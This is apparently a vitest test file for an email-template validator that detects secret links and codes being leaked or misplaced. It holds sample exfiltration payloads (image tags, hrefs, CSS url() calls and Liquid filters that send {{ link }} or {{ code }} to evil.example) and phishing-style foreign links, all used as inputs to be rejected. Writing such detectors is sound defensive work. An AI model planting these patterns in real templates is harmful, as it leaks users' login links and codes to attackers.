import { describe, expect, it } from 'vitest';
import { emailTemplates } from '../../database/seed/content/essential/email-templates.ts';
import { languages } from '../language.ts';
import { findSecretError } from './mail-template-secrets.ts';

const siteUrl = 'https://alpaca.example';
const variables = ['first_name', 'message', 'link', 'code', 'booking_link'];
const codeOf = (text: string) => findSecretError('body', text, { variables, siteUrl })?.code;

describe('a template with a link', () => {
  it.each([
    '<p>Hi {{ first_name }}</p><p><a class="button" href="{{ link }}">Open</a></p>',
    "<p><a href='{{link}}'>{{ link }}</a> or the code <strong>{{ code }}</strong>.</p>",
    '<p>Code:</p><p>{{ code }}</p><p>({{ link }})</p>',
    '{% if code %}<p>"{{ code }}"</p>{% endif %}{% if first_name == "<img" %}{% endif %}',
    '<a href="{{ booking_link }}">x</a> <a href="mailto:a@b.example">x</a>',
    '<img src="https://alpaca.example/logo.png" alt="Alpaca"> https://alpaca.example/privacy',
    '<p style="color: red">5 < 6</p>',
  ])('may say %s', (text) => {
    expect(codeOf(text)).toBeUndefined();
  });

  it.each([
    '<img src="https://evil.example/p?{{ link }}{{ code }}">',
    '<img src="https://alpaca.example/p?{{ link }}">',
    '<img src="{{ link }}">',
    '<img src=https://evil.example/{{ code }}>',
    '<img alt=">" src="{{ link }}">',
    '<img src="https://evil.example/?{{ link }}"',
    '<a href="https://evil.example/?{{ link }}">x</a>',
    '<a href="{{ link }}.evil.example">x</a>',
    '<a href="{% if code %}https://evil.example/{% endif %}{{ link }}">x</a>',
    '<p title="{{ code }}">x</p>',
    '<p style="background: url(https://evil.example/{{ code }})">x</p>',
    'https://evil.example/?{{ link }}',
    'https://evil.example/<b>{{ code }}</b>',
    'https://evil.example/{% if code %}{{ code }}{% endif %}',
    'https://evil.example/ {{- code }}',
    'https://evil.example/{{ "" -}} {{ code }}',
    '{{ code }}.evil.example',
    '{{ message }}{{ link }}',
    '{{ link | prepend: "https://evil.example/?" }}',
    '{{ "https://evil.example/?" | append: link }}',
    '<!-- {{ link }} -->',
  ])('may not hand it on: %s', (text) => {
    expect(codeOf(text)).toBe('secret_misplaced');
  });

  it.each([
    ['<img src="https://evil.example/pixel.gif">', 'foreign_content'],
    ['<img src="//evil.example/pixel.gif">', 'foreign_content'],
    ['<img src="https://alpaca.example.evil.example/x.png">', 'foreign_content'],
    ['<img srcset="https://alpaca.example/x.png">', 'foreign_content'],
    ['<td background="https://evil.example/x.png">', 'foreign_content'],
    ['<p style="background: u\\72l(x)">', 'foreign_content'],
    ['<a href="https://evil.example">Sign in</a>', 'foreign_link'],
    ['<a href="https://alpaca.example@evil.example/">Sign in</a>', 'foreign_link'],
    ['Sign in at https://evil.example', 'foreign_link'],
  ])('loads and leads to nothing of others: %s', (text, code) => {
    expect(codeOf(text)).toBe(code);
  });
});

it('leaves templates without links and codes alone', () => {
  const text = '<img src="https://other.example/x.png">';
  expect(findSecretError('body', text, { variables: ['first_name'], siteUrl })).toBeUndefined();
});

it.each(emailTemplates.map((template) => [template.key, template] as const))(
  'the built-in text is fine: %s',
  (_, { subject, body, variables: names }) => {
    for (const language of languages) {
      const means = { variables: names, siteUrl };
      expect(findSecretError('subject', subject[language], means)).toBeUndefined();
      expect(findSecretError('body', body[language], means)).toBeUndefined();
    }
  },
);
